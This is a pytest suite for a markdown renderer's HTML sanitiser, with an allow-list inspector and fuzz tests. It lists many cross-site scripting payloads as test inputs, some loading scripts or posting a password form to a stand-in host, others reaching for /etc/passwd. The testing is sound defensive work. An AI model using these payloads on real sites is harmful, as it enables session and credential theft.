"""Hostile strings: whatever goes in, only what this page lists comes out."""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.markdown import render, render_safely, safe_html
from core.markdown.links import is_own, is_own_picture, safe_url
from core.markdown.sanitise import decorated, last_pass

# Written out again here, so that a slip in the product's own lists is seen.
_PLAIN = (
    "br",
    "code",
    "del",
    "em",
    "hr",
    "kbd",
    "strong",
    "sub",
    "summary",
    "tbody",
    "thead",
    "tr",
)
ATTRIBUTES: dict[str, set[str]] = {name: set() for name in _PLAIN}
ATTRIBUTES |= {
    "a": {"href", "title", "rel", "class"},
    "blockquote": set(),
    "details": {"open"},
    "div": {"class", "tabindex"},
    "img": {"src", "alt", "title", "loading"},
    "input": {"type", "disabled", "checked", "aria-label"},
    "li": {"class", "id"},
    "ol": {"start"},
    "p": {"class"},
    "pre": {"class", "tabindex"},
    "span": {"class"},
    "sup": {"id"},
    "table": {"class"},
    "td": {"class"},
    "th": {"class"},
    "ul": {"class"},
}
ATTRIBUTES |= {f"h{level}": {"id"} for level in range(2, 7)}
CLASSES = re.compile(
    r"highlight|task-list(-item)?|table(-responsive)?|text-(center|end)|alert-(box|title|note|tip"
    r"|important|warning|caution)|footnote(-(back)?ref)?|as-typed"
)
CODE_CLASS = re.compile(r"[a-z][a-z0-9]{0,2}|-?[A-Za-z]{1,9}")
SCHEME = re.compile(r"[^/?#]*?:")


class Inspector(HTMLParser):
    """Collects what a browser would see and we did not allow."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in ATTRIBUTES:
            self.faults.append(f"<{tag}>")
        names = [name for name, _ in attrs]
        if len(set(names)) < len(names):
            self.faults.append(f"<{tag}> says an attribute twice: {names}")
        for name, value in attrs:
            if name not in ATTRIBUTES.get(tag, ()) or not self._may_be(tag, name, value or ""):
                self.faults.append(f"<{tag} {name}={value!r}>")
        self._complete(tag, dict(attrs))

    def _may_be(self, tag: str, name: str, value: str) -> bool:
        match name:
            case "class":
                allowed = CODE_CLASS if tag == "span" else CLASSES
                return all(allowed.fullmatch(part) for part in value.split())
            case "id":
                return value.startswith("u-")
            case "href":
                return _leads_somewhere_safe(value)
            case "src":
                return bool(re.match(r"/(?![/\\])", value)) and not re.search(r"[\x00-\x1f]", value)
            case "start":
                return value.isascii() and value.isdigit()
        fixed = {"type": "checkbox", "loading": "lazy", "tabindex": "0", "disabled": "", "open": ""}
        return fixed.get(name, value) == value

    def _complete(self, tag: str, attributes: dict[str, str | None]) -> None:
        if tag == "img" and not {"src", "alt", "loading"} <= set(attributes):
            self.faults.append(f"a picture lacks something: {attributes}")
        if tag == "input" and not {"type", "disabled", "aria-label"} <= set(attributes):
            self.faults.append(f"a box that can be ticked: {attributes}")
        if tag == "a":
            leads_away = re.match(r"(?i)https?:|//", attributes.get("href") or "")
            if "href" in attributes and bool(leads_away) != (
                attributes.get("rel") == "nofollow ugc noopener"
            ):
                self.faults.append(f"a link with the wrong rel: {attributes}")

    def handle_comment(self, data):
        self.faults.append(f"<!--{data}-->")

    def handle_decl(self, decl):
        self.faults.append(f"<!{decl}>")

    def handle_pi(self, data):
        self.faults.append(f"<?{data}>")

    def unknown_decl(self, data):
        self.faults.append(f"<![{data}]>")


def _leads_somewhere_safe(href: str) -> bool:
    if re.search(r"[\x00-\x20]", href[:1]) or re.search(r"[\t\n\r\\]", href):
        return False
    scheme = SCHEME.match(href)
    return not scheme or scheme[0].lower() in ("http:", "https:", "mailto:")


def faults_in(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.faults


VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//e.vn/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=/uploads/x.png onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<math href=javascript:alert(1)>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<title><a title='</title><img src=x onerror=alert(1)>'></title>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=data:text/html,<script>alert(1)</script>>",
    "<embed src=//e.vn/x.swf>",
    "<base href=//e.vn/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//e.vn/x.css>",
    "<style>*{background:url(//e.vn)}</style>",
    "<form action=//e.vn><input name=password><button>x</button></form>",
    "<input type=image src=//e.vn/x formaction=javascript:alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<isindex action=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<details/open/ontoggle=alert(1)>",
    "<summary onclick=alert(1)>x</summary>",
    "<kbd onclick=alert(1)>x</kbd>",
    "<sub style=position:fixed>x</sub>",
    "<br onclick=alert(1)>",
    "<details><kbd></details><script>alert(1)</script></kbd>",
    "<summary><script>alert(1)</script></summary>",
    "<details><summary><img src=x onerror=alert(1)></summary></details>",
    "<sup><sub><sup></sub><img src=x onerror=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "</p><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;",
    "＜script＞alert(1)＜/script＞",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#9;script:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61vascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&amp;colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](<java\nscript:alert(1)>)",
    "[x](\\javascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](javascript:123)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](ftp://e.vn/)",
    "[x](blob:https://e.vn/1)",
    "[x](view-source:javascript:alert(1))",
    "[x](http:javascript:alert(1))",
    "[x](https:alert)",
    "[x](//e.vn)",
    "[x](/\\e.vn)",
    "[x](\\\\e.vn)",
    "[x](///e.vn)",
    "[x](http://[::1)",
    "[x](http://e.vn\\@f.vn)",
    '[x](/a "onclick=alert(1) x=")',
    "[x](/a '\"><script>alert(1)</script>')",
    '[x](/a"onmouseover="alert(1))',
    "[x](/a'onmouseover='alert(1))",
    "[<script>alert(1)</script>](/a)",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]: <javascript:alert(1)> 'y'\n\n[x][x]",
    "<javascript:alert(1)>",
    "<javascript://e.vn/%0aalert(1)>",
    "<data://text/html,x>",
    "<a@e.vn?subject=<script>>",
    "![x](javascript:alert(1))",
    "![x](//e.vn/x.png)",
    "![x](/\\e.vn/x.png)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '![x"onerror="alert(1)](/uploads/x.png)',
    '![x](/uploads/x.png"onerror="alert(1))',
    "![<img src=x onerror=alert(1)>](http://e.vn/x.png)",
    "[![x](http://e.vn/a.png)](javascript:alert(1))",
    "[![x](javascript:alert(1))](http://e.vn/)",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "```html\n<script>alert(1)</script>\n```",
    "```<script>\nalert(1)\n```",
    '```x" onclick="alert(1)\ny\n```',
    "```{.modal .fade .show #location}\nx\n```",
    "    <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "# location {: #location .modal onclick=alert(1) }",
    "# x {#location}",
    "x\n{: .modal .fade .show style=display:block }",
    '<a id="location" class="modal fade show" name="cookie">x</a>',
    "|<script>|b|\n|-|-|\n|<img src=x onerror=alert(1)>|[x](javascript:alert(1))|",
    "[^<script>]: <script>alert(1)</script>\n\nx[^<script>]",
    '[^" onclick="alert(1)]: y\n\nx[^" onclick="alert(1)]',
    "> [!NOTE] <script>alert(1)</script>\n> [x](javascript:alert(1))",
    '> [!NOTE" onclick="alert(1)]\n> x',
    "- [x] <script>alert(1)</script>\n- [ ] [x](javascript:alert(1))",
    "*[x]: <script>alert(1)</script>\nx",
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03 \x0260\x03script\x0262\x03",
    "http://e.vn/<script>alert(1)</script>",
    'http://e.vn/"onmouseover="alert(1)',
    "www.e.vn/'onmouseover='alert(1)",
    "https://e.vn/?x=javascript:alert(1)&y=<b>",
    "javascript:alert(1)",
    "{{7*7}} {% include '/etc/passwd' %} ${7*7} #{7*7}",
    "\ud800<script>\udfff",
    "<\x00script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\u202e<script>\u202c",
]


@pytest.mark.parametrize("vector", VECTORS)
@pytest.mark.parametrize("frame", ["{}", "a {} b", "> {}", "- {}", "[{}](/a)", "**{}**", "# {}"])
def test_a_vector_leaves_nothing_but_what_is_allowed(vector, frame):
    text = frame.replace("{}", vector)

    assert faults_in(render(text)) == []
    assert faults_in(render_safely(text).html) == []


def test_there_are_enough_vectors():
    assert len(set(VECTORS)) == len(VECTORS) >= 60


def test_a_tag_that_is_not_ours_shows_as_typed():
    assert "&lt;user&gt;" in render("Thay <user> bằng tên của bạn")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in render("<script>alert(1)</script>")
    assert "{{7*7}}" in render("{{7*7}}")


def test_text_is_decoded_once():
    assert "&amp;lt;" in render("&amp;lt;b")
    assert "%2561" in render("[x](/a%2561)")
    assert 'href="javascript&amp;colon;1"' in render("[x](javascript&amp;colon;1)")


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script><p>a</p>",
        '<h2 id="location" class="modal" style="x" onclick="y">a</h2>',
        '<a href="javascript:alert(1)">a</a><a href="java&#9;script:alert(1)">b</a>',
        '<img src="//e.vn/x.png"><img src="/uploads/x.png" srcset="//e.vn/x.png">',
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        '<span class="k modal">a</span><div class="modal highlight">b</div>',
        '<input type="text" name="q">',
    ],
)
def test_each_pass_stands_alone(html):
    """Had the other pass a hole, this one would still hold."""
    for passed in (decorated(html, "vi"), last_pass(html)):
        assert [fault for fault in faults_in(passed) if fault.startswith("<")] == []


@pytest.mark.parametrize(
    "url",
    [
        "javascript:1",
        "javascript:123",
        "JAVASCRIPT:x",
        "java\nscript:x",
        "\x00javascript:x",
        "data:x",
        "vbscript:x",
        "http:",
        "https:x",
        "http://[",
        "x:y",
        "a:1",
        "ftp://e.vn",
        "tel:1",
        ":x",
    ],
)
def test_a_url_that_may_lead_nowhere(url):
    assert safe_url(url) is None


@pytest.mark.parametrize(
    ("url", "own"),
    [
        ("/kb/", True),
        ("../a/b.md#c", True),
        ("?q=a:b", True),
        ("#x", True),
        ("/a:b", True),
        ("https://e.vn/a:b", False),
        ("//e.vn/", False),
        ("mailto:a@b.vn", False),
        ("HTTP://E.VN", False),
    ],
)
def test_a_url_that_may_lead_somewhere(url, own):
    assert safe_url(url) == url
    assert is_own(url) is own


def test_backslashes_never_become_another_host():
    assert safe_url("/\\e.vn") == "/%5Ce.vn"
    assert safe_url("\\\\e.vn") == "%5C%5Ce.vn"
    assert not is_own_picture("//e.vn/x.png")
    assert not is_own_picture("x.png")


def test_the_filter_marks_without_changing():
    assert safe_html("<p>a</p>") == "<p>a</p>"
    assert safe_html("<p>a</p>").__html__() == "<p>a</p>"


_PIECES = st.sampled_from(
    [
        *VECTORS,
        "a ",
        "\n",
        "\n\n",
        "> ",
        "- ",
        "    ",
        "|",
        "`",
        "*",
        "[",
        "](",
        ")",
        "<",
        ">",
        "'",
        '"',
    ]
)


@settings(max_examples=150, deadline=None)
@given(st.lists(_PIECES, max_size=8).map("".join))
def test_vectors_put_together_leave_nothing_either(text):
    assert faults_in(render(text)) == []


@settings(max_examples=150, deadline=None)
@given(
    st.text(
        alphabet=st.one_of(st.characters(), st.sampled_from("<>[]()`*_#|-\n &;:/\"'!")),
        max_size=200,
    )
)
def test_any_text_renders_to_what_is_allowed(text):
    assert faults_in(render(text)) == []


_STRINGS = Path(__file__).parents[3] / "shared" / "data" / "xss"
_FILES = sorted(path.name for path in _STRINGS.glob("*.json"))


@pytest.mark.shared_data
@pytest.mark.parametrize("name", _FILES or ["absent"])
def test_the_worlds_hostile_strings_leave_nothing(name):
    if not _FILES:
        pytest.skip("the collections of hostile strings are not beside the checkout")
    strings = [item["v"] for item in json.loads((_STRINGS / name).read_text("utf-8"))]

    assert strings
    faults = {text: found for text in strings if (found := faults_in(render(text)))}
    assert faults == {}
